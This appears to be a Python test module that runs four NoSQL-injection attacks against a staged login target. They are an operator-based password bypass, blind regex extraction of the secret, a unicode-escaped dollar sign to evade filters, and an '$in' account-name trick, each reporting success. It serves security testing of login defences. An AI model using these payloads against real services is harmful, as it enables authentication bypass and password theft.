"""Attacks by a JSON body."""

from prover import Target

from .stage import Stage


def attack_not_equal(target: Target, stage: Stage) -> bool:
    """Send, in the place of a password, that it is not an empty one."""
    body = '{"name": "root", "password": {"$ne": ""}}'
    found = target.login(stage.accounts, body)
    print(found)
    return bool(found == "root")


def attack_pattern(target: Target, stage: Stage) -> bool:
    """Find the password from its beginning, a character at a time."""
    known = ""
    while len(known) < len(stage.secret):
        for character in "0123456789abcdefghijklmnopqrstuvwxyz-":
            guess = f'{{"$regex": "^{known}{character}"}}'
            body = f'{{"name": "root", "password": {guess}}}'
            if target.login(stage.accounts, body):
                known += character
                break
        else:
            return False
    print(known)
    return known == stage.secret


def attack_escaped_dollar(target: Target, stage: Stage) -> bool:
    """Write the sign in a form that is a dollar only once the body is read."""
    body = '{"name": "root", "password": {"\\u0024ne": ""}}'
    found = target.login(stage.accounts, body)
    print(found)
    return bool(found == "root")


def attack_any_name(target: Target, stage: Stage) -> bool:
    """Know one password, and open another account's name with it."""
    body = '{"name": {"$in": ["root", "ana"]}, "password": "tea and cake"}'
    found = target.login(stage.accounts, body)
    print(found)
    return found is not None
